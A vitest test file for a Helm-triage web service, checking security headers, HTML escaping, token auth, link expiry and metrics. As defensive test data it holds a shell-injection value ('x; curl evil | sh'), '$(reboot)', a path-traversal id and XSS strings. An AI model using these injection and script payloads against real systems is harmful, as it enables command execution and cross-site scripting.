import { afterEach, describe, expect, it } from 'vitest';
import { diagnosisJson } from '../../src/render/json.js';
import { diagnose } from '../../src/triage/diagnose.js';
import { emptyPlaybooks, fixtureDiagnosis, playbookSet, XSS_IMG, XSS_SCRIPT } from './fixtures.js';
import { DAY, makeHarness, type Harness } from './harness.js';

const JSON_ACCEPT = { accept: 'application/json' };
const TOKEN = 'a-long-enough-api-token-1234';

let h: Harness | undefined;
afterEach(async () => {
  await h?.server.close();
  h = undefined;
});

function harness(...args: Parameters<typeof makeHarness>): Harness {
  h = makeHarness(...args);
  return h;
}

describe('web security headers', () => {
  it('sends a strict CSP and the hardening headers on pages, JSON and errors', async () => {
    const { server } = harness();
    for (const url of ['/runbooks', '/runbooks/widget-port-immutable', '/nope', '/healthz']) {
      const res = await server.app.inject({ url });
      const csp = String(res.headers['content-security-policy']);
      expect(csp).toContain("default-src 'none'");
      expect(csp).toContain("script-src 'self'");
      expect(csp).toContain("frame-ancestors 'none'");
      expect(csp).not.toContain('unsafe-inline');
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.headers['referrer-policy']).toBe('no-referrer');
    }
  });

  it('pages carry no inline script, style or event handler', async () => {
    const { server, store } = harness();
    const record = await store.create({ source: 'slack', diagnosis: fixtureDiagnosis(`${XSS_SCRIPT}\n${XSS_IMG}`) });
    for (const url of ['/runbooks', '/runbooks/widget-port-immutable?release=shop', `/t/${record.id}`]) {
      const body = (await server.app.inject({ url })).body;
      expect(body).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/i);
      expect(body).not.toMatch(/<style/i);
      // Attributes inside real tags only: escaped text may spell "onerror=" harmlessly.
      expect(body).not.toMatch(/<[a-z][^<>]*\son[a-z]+\s*=/i);
      expect(body).not.toMatch(/<[a-z][^<>]*\sstyle\s*=/i);
      expect(body).toContain('<meta name="viewport" content="width=device-width, initial-scale=1">');
    }
  });

  it('serves its stylesheet and script itself, with dark mode in the CSS', async () => {
    const { server } = harness();
    const page = (await server.app.inject({ url: '/runbooks' })).body;
    const css = /href="(\/assets\/site\.css\?v=[0-9a-f]+)"/.exec(page)?.[1];
    const js = /src="(\/assets\/site\.js\?v=[0-9a-f]+)"/.exec(page)?.[1];
    expect(css && js).toBeTruthy();
    const cssRes = await server.app.inject({ url: css ?? '' });
    expect(cssRes.headers['content-type']).toContain('text/css');
    expect(cssRes.body).toContain('prefers-color-scheme:dark');
    const jsRes = await server.app.inject({ url: js ?? '' });
    expect(jsRes.headers['content-type']).toContain('text/javascript');
    expect(jsRes.body).toContain('clipboard');
  });
});

describe('GET /runbooks', () => {
  it('lists every playbook', async () => {
    const res = await harness().server.app.inject({ url: '/runbooks' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('text/html');
    expect(res.body).toContain('Service port name cannot change during rollback');
    expect(res.body).toContain('Stored release values override the new image');
    expect(res.body).toContain('2 runbooks');
  });

  it('searches by title words without JavaScript (?q=)', async () => {
    const res = await harness().server.app.inject({ url: '/runbooks?q=STORED+values' });
    expect(res.body).toContain('Stored release values override the new image');
    expect(res.body).not.toContain('href="/runbooks/widget-port-immutable"');
    expect(res.body).toContain('1 of 2 runbooks match');
  });

  it('finds a runbook from an error line through its signal patterns', async () => {
    const q = encodeURIComponent('Service "cart" is invalid: spec.ports[2].name: Invalid value: "grpc": cannot be changed');
    const res = await harness().server.app.inject({ url: `/runbooks?q=${q}`, headers: JSON_ACCEPT });
    expect(res.json<{ runbooks: Array<{ id: string }> }>().runbooks.map((r) => r.id)).toEqual(['widget-port-immutable']);
  });

  it('says so when nothing matches, and escapes the query', async () => {
    const res = await harness().server.app.inject({ url: `/runbooks?q=${encodeURIComponent(XSS_SCRIPT)}` });
    expect(res.body).toContain('No runbook matches');
    expect(res.body).not.toContain('<script>console.log');
    expect(res.body).toContain('&lt;script&gt;');
  });

  it('answers JSON when asked', async () => {
    const res = await harness().server.app.inject({ url: '/runbooks', headers: JSON_ACCEPT });
    expect(res.headers['content-type']).toContain('application/json');
    const body = res.json<{ total: number; runbooks: Array<{ id: string; url: string }> }>();
    expect(body.total).toBe(2);
    expect(body.runbooks[0]).toMatchObject({ id: 'widget-port-immutable', url: '/runbooks/widget-port-immutable' });
  });

  it('redirects / to the index', async () => {
    const res = await harness().server.app.inject({ url: '/' });
    expect(res.statusCode).toBe(302);
    expect(res.headers.location).toBe('/runbooks');
  });
});

describe('GET /runbooks/:id', () => {
  it('shows symptoms, root cause, checks with descriptions, commands and references', async () => {
    const res = await harness().server.app.inject({ url: '/runbooks/widget-port-immutable' });
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain('Symptoms');
    expect(res.body).toContain('spec.ports[0].name: Invalid value: &quot;web&quot;: cannot be changed');
    expect(res.body).not.toContain('context deadline exceeded'); // a negative example is not a symptom
    expect(res.body).toContain('Reads the live Service and compares its port names');
    expect(res.body).toContain('helm history &lt;release&gt; -n &lt;namespace&gt;');
    expect(res.body).toContain('href="https://example.com/widget-controller/issues/1"');
    expect(res.body).toContain('<h3>Meaning</h3>');
  });

  it('fills commands from release, namespace and context', async () => {
    const res = await harness().server.app.inject({ url: '/runbooks/widget-port-immutable?release=shop&namespace=store&context=prod-eu' });
    expect(res.body).toContain('helm --kube-context prod-eu history shop -n store');
    expect(res.body).toContain('kubectl --context prod-eu -n store get service shop');
    expect(res.body).toContain('helm --kube-context prod-eu rollback shop &lt;revision&gt; -n store');
    expect(res.body).toContain('Replace <code>&lt;revision&gt;</code>');
    expect(res.body).toContain('The port name of shop in store');
  });

  it('refuses values that could smuggle shell syntax into a command', async () => {
    const res = await harness().server.app.inject({ url: `/runbooks/widget-port-immutable?release=${encodeURIComponent('x; curl evil | sh')}&namespace=ok` });
    expect(res.body).toContain('Ignored release');
    expect(res.body).not.toContain('curl evil');
    expect(res.body).toContain('helm history &lt;release&gt; -n ok');
  });

  it('never passes raw HTML or javascript: links through', async () => {
    const res = await harness().server.app.inject({ url: '/runbooks/widget-port-immutable' });
    expect(res.body).not.toContain('<script>alert');
    expect(res.body).toContain('&lt;script&gt;alert(&quot;runbook&quot;)&lt;/script&gt;');
    expect(res.body).not.toMatch(/href="\s*javascript:/i);
    expect(res.body).toContain('javascript:alert(document.domain)'); // shown as text
  });

  it('answers JSON with filled commands', async () => {
    const res = await harness().server.app.inject({ url: '/runbooks/widget-port-immutable?release=shop', headers: JSON_ACCEPT });
    const body = res.json<{ id: string; commands: Array<{ command: string; missing?: string[] }>; runbook: string }>();
    expect(body.id).toBe('widget-port-immutable');
    expect(body.commands[0]).toEqual({ command: 'helm history shop -n <namespace>', description: 'List the revisions of the release', effect: 'read-only', missing: ['namespace'] });
    expect(body.runbook).toContain('# Meaning');
  });

  it('shows a 404 page for an unknown id, HTML or JSON', async () => {
    const { server } = harness();
    const html = await server.app.inject({ url: '/runbooks/no-such-thing' });
    expect(html.statusCode).toBe(404);
    expect(html.body).toContain('No such runbook');
    expect(html.body).toContain('href="/runbooks"');
    const json = await server.app.inject({ url: '/runbooks/no-such-thing', headers: JSON_ACCEPT });
    expect(json.statusCode).toBe(404);
    expect(json.json()).toMatchObject({ error: 'runbook_not_found' });
  });
});

describe('GET /t/:id', () => {
  it('shows the redacted input escaped, facts, diagnosis, findings, verdict, commands and timestamps', async () => {
    const { server, store } = harness();
    const record = await store.create({ source: 'slack', diagnosis: fixtureDiagnosis(`Error: rollback failed\n${XSS_SCRIPT}\n${XSS_IMG}`), cluster: 'prod' });
    await store.update(record.id, {
      findings: [{ check: 'service-port-names', status: 'confirmed', summary: 'port 0 is named "web" live, unnamed in revision 3', evidence: ['live: web', 'revision 3: <none>'] }],
      verdict: { playbook: 'widget-port-immutable', status: 'confirmed', confidence: 0.97, summary: 'Confirmed by 1 check', rootCause: 'The controller named the port.' },
      checks: { outcome: 'ok', completedAt: record.createdAt + 5000 },
    });
    const res = await server.app.inject({ url: `/t/${record.id}` });
    expect(res.statusCode).toBe(200);
    expect(res.headers['cache-control']).toBe('private, no-store');
    expect(res.headers['x-robots-tag']).toContain('noindex');
    const body = res.body;
    expect(body).not.toContain(XSS_SCRIPT);
    expect(body).not.toContain('<img');
    expect(body).toContain('&lt;script&gt;console.log(&quot;XSS-MARKER&quot;)');
    expect(body).toContain('Confirmed by 1 check');
    expect(body).toContain('The controller named the port.');
    expect(body).toContain('Reads the live Service and compares');
    expect(body).toContain('revision 3: &lt;none&gt;');
    expect(body).toContain('Service/shop (ns store)');
    expect(body).toContain('helm rollback shop &lt;revision&gt; -n store');
    expect(body).toContain('Created <time datetime="2026-11-25T12:00:00.000Z">2026-11-25 12:00 UTC</time>');
    expect(body).toContain('kept until <time datetime="2026-12-09T12:00:00.000Z">2026-12-09 12:00 UTC</time>');
    expect(body).toContain('href="/runbooks/widget-port-immutable?release=shop&amp;namespace=store"');
  });

  it('shows the update once checks finish (a cached rendering never goes stale)', async () => {
    const { server, store } = harness();
    const record = await store.create({ source: 'slack', diagnosis: fixtureDiagnosis('Error: x') });
    const before = await server.app.inject({ url: `/t/${record.id}` });
    expect(before.body).toContain('not checked on a cluster');
    expect((await server.app.inject({ url: `/t/${record.id}` })).body).toBe(before.body);
    await store.update(record.id, {
      verdict: { playbook: 'widget-port-immutable', status: 'refuted', confidence: 0.2, summary: 'The live Service has no port names', rootCause: null },
      checks: { outcome: 'ok', completedAt: record.createdAt + 1000 },
    });
    const after = await server.app.inject({ url: `/t/${record.id}` });
    expect(after.body).toContain('The live Service has no port names');
    expect(after.body).toContain('>refuted<');
  });

  it('answers JSON with the stored record', async () => {
    const { server, store } = harness();
    const record = await store.create({ source: 'cli', diagnosis: fixtureDiagnosis('Error: x') });
    const res = await server.app.inject({ url: `/t/${record.id}`, headers: JSON_ACCEPT });
    expect(res.json()).toMatchObject({ id: record.id, source: 'cli', diagnosis: { playbook: 'widget-port-immutable' } });
  });

  it('says the link expired once the retention has passed (404 when gone)', async () => {
    const { server, store, clock } = harness();
    const record = await store.create({ source: 'slack', diagnosis: fixtureDiagnosis('Error: x') });
    clock.now += 15 * DAY;
    const res = await server.app.inject({ url: `/t/${record.id}` });
    expect(res.statusCode).toBe(404);
    expect(res.body).toContain('this triage link has expired (results are kept 14 days)'.replace('this', 'This'));
    const json = await server.app.inject({ url: `/t/${record.id}`, headers: JSON_ACCEPT });
    expect(json.json()).toMatchObject({ error: 'triage_expired' });
  });

  it('answers 410 when a record is past its expiry but still stored (replica clocks differ)', async () => {
    const { store } = harness();
    const record = await store.create({ source: 'slack', diagnosis: fixtureDiagnosis('Error: x') });
    const skewed = makeHarness({ triageStore: store, now: () => record.expiresAt + 1 });
    try {
      const res = await skewed.server.app.inject({ url: `/t/${record.id}` });
      expect(res.statusCode).toBe(410);
      expect(res.body).toContain('results are kept 14 days');
    } finally {
      await skewed.server.close();
    }
  });

  it('treats malformed and unknown ids as expired links', async () => {
    const { server } = harness();
    for (const id of ['short', 'A'.repeat(24), '..%2F..%2Fetc']) {
      const res = await server.app.inject({ url: `/t/${id}` });
      expect(res.statusCode).toBe(404);
      expect(res.body).toContain('has expired');
    }
  });
});

describe('POST /api/diagnose', () => {
  it('answers the CLI --json shape and a working permalink', async () => {
    const { server } = harness({ config: { PUBLIC_BASE_URL: 'https://triage.example.com/', TRIAGE_TTL_DAYS: 14 } });
    const res = await server.app.inject({ method: 'POST', url: '/api/diagnose', payload: { text: 'Error: UPGRADE FAILED: boom', release: 'shop', namespace: 'store' } });
    expect(res.statusCode).toBe(200);
    const body = res.json<Record<string, unknown>>();
    for (const key of ['playbook', 'confidence', 'facts', 'rootCause', 'commands', 'matches', 'notes', 'input']) expect(body).toHaveProperty(key);
    expect(typeof body.confidence).toBe('number');
    const { permalink: _p, ...rest } = body;
    const cli = diagnosisJson(diagnose('Error: UPGRADE FAILED: boom', playbookSet(), { overrides: { release: 'shop', namespace: 'store' } }));
    expect(rest).toEqual(JSON.parse(JSON.stringify(cli)));
    expect(body.facts).toMatchObject({ release: 'shop', namespace: 'store' });
    const permalink = String(body.permalink);
    expect(permalink).toMatch(/^https:\/\/triage\.example\.com\/t\/[A-Za-z0-9_-]{24}$/);
    const page = await server.app.inject({ url: new URL(permalink).pathname });
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain('Error: UPGRADE FAILED: boom');
  });

  it('accepts a text/plain body with release and namespace in the query', async () => {
    const res = await harness().server.app.inject({ method: 'POST', url: '/api/diagnose?release=shop', headers: { 'content-type': 'text/plain' }, payload: 'Error: x\nline 2' });
    expect(res.statusCode).toBe(200);
    expect(res.json<{ input: { lines: number } }>().input.lines).toBeGreaterThanOrEqual(2);
  });

  it('requires the bearer token when API_TOKEN is set', async () => {
    const { server } = harness({ config: { API_TOKEN: TOKEN } });
    const payload = { text: 'Error: x' };
    const missing = await server.app.inject({ method: 'POST', url: '/api/diagnose', payload });
    expect(missing.statusCode).toBe(401);
    expect(missing.headers['www-authenticate']).toContain('Bearer');
    expect(missing.json()).toMatchObject({ error: 'unauthorized' });
    const wrong = await server.app.inject({ method: 'POST', url: '/api/diagnose', payload, headers: { authorization: `Bearer ${TOKEN}x` } });
    expect(wrong.statusCode).toBe(401);
    const prefix = await server.app.inject({ method: 'POST', url: '/api/diagnose', payload, headers: { authorization: `Bearer ${TOKEN.slice(0, 10)}` } });
    expect(prefix.statusCode).toBe(401);
    const right = await server.app.inject({ method: 'POST', url: '/api/diagnose', payload, headers: { authorization: `Bearer ${TOKEN}` } });
    expect(right.statusCode).toBe(200);
  });

  it('refuses a body over the limit with a clear 413', async () => {
    const { server } = harness({ bodyLimitBytes: 1024 });
    const res = await server.app.inject({ method: 'POST', url: '/api/diagnose', payload: { text: 'x'.repeat(4096) } });
    expect(res.statusCode).toBe(413);
    expect(res.json<{ error: string; message: string }>()).toMatchObject({ error: 'payload_too_large' });
    expect(res.json<{ message: string }>().message).toContain('larger than 1 KiB');
  });

  it('explains malformed requests', async () => {
    const { server } = harness();
    const empty = await server.app.inject({ method: 'POST', url: '/api/diagnose', payload: { text: '' } });
    expect(empty.statusCode).toBe(400);
    expect(empty.json<{ message: string }>().message).toContain('text is empty');
    const badJson = await server.app.inject({ method: 'POST', url: '/api/diagnose', headers: { 'content-type': 'application/json' }, payload: '{"text":' });
    expect(badJson.statusCode).toBe(400);
    expect(badJson.json()).toMatchObject({ error: 'bad_request' });
    const form = await server.app.inject({ method: 'POST', url: '/api/diagnose', headers: { 'content-type': 'application/x-www-form-urlencoded' }, payload: 'text=x' });
    expect(form.statusCode).toBe(415);
    const badRelease = await server.app.inject({ method: 'POST', url: '/api/diagnose', payload: { text: 'Error: x', release: '$(reboot)' } });
    expect(badRelease.statusCode).toBe(400);
    expect(badRelease.json<{ message: string }>().message).toContain('Ignored release');
  });
});

describe('health, readiness and metrics', () => {
  it('/healthz answers while the process is up', async () => {
    const { server } = harness();
    expect((await server.app.inject({ url: '/healthz' })).body).toBe('ok\n');
    expect((await server.app.inject({ url: '/healthz', headers: JSON_ACCEPT })).json()).toEqual({ status: 'ok' });
  });

  it('/readyz is ready with playbooks loaded and the store answering', async () => {
    const res = await harness().server.app.inject({ url: '/readyz', headers: JSON_ACCEPT });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ ready: true, checks: [{ name: 'playbooks', ok: true }, { name: 'redis', ok: true }] });
  });

  it('/readyz answers 503 with reasons when playbooks are missing or a probe fails or hangs', async () => {
    const { server } = harness(
      { readiness: [() => ({ name: 'queue', ok: false, detail: 'no agent for cluster prod' }), () => new Promise(() => undefined)] },
      emptyPlaybooks,
    );
    const res = await server.app.inject({ url: '/readyz' });
    expect(res.statusCode).toBe(503);
    expect(res.body).toContain('FAIL playbooks: no playbooks loaded');
    expect(res.body).toContain('FAIL queue: no agent for cluster prod');
    expect(res.body).toContain('no answer within 2000 ms');
  });

  it('/readyz in a browser reads as sentences, without the terminal column padding', async () => {
    const res = await harness().server.app.inject({ url: '/readyz', headers: { accept: 'text/html' } });
    expect(res.statusCode).toBe(200);
    expect(res.body).toMatch(/✓ playbooks: \d+ loaded · ✓ redis: reachable/);
    expect(res.body).not.toContain('ok  ');
  });

  it('/metrics exposes Prometheus text with per-route counters', async () => {
    const { server } = harness();
    await server.app.inject({ url: '/runbooks' });
    await server.app.inject({ url: '/t/AAAAAAAAAAAAAAAAAAAAAAAA' });
    const res = await server.app.inject({ url: '/metrics' });
    expect(res.headers['content-type']).toContain('text/plain');
    expect(res.body).toContain('helm_triage_http_requests_total{method="GET",route="/runbooks",status="200"} 1');
    expect(res.body).toContain('route="/t/:id",status="404"');
    expect(res.body).not.toContain('AAAAAAAAAAAAAAAAAAAAAAAA');
    const json = await server.app.inject({ url: '/metrics', headers: JSON_ACCEPT });
    expect(json.json<Array<{ name: string }>>().some((m) => m.name === 'helm_triage_http_requests_total')).toBe(true);
  });

  it('unknown paths get a 404 page or JSON', async () => {
    const { server } = harness();
    expect((await server.app.inject({ url: '/wp-admin' })).statusCode).toBe(404);
    expect((await server.app.inject({ url: '/wp-admin', headers: JSON_ACCEPT })).json()).toMatchObject({ error: 'not_found' });
  });
});
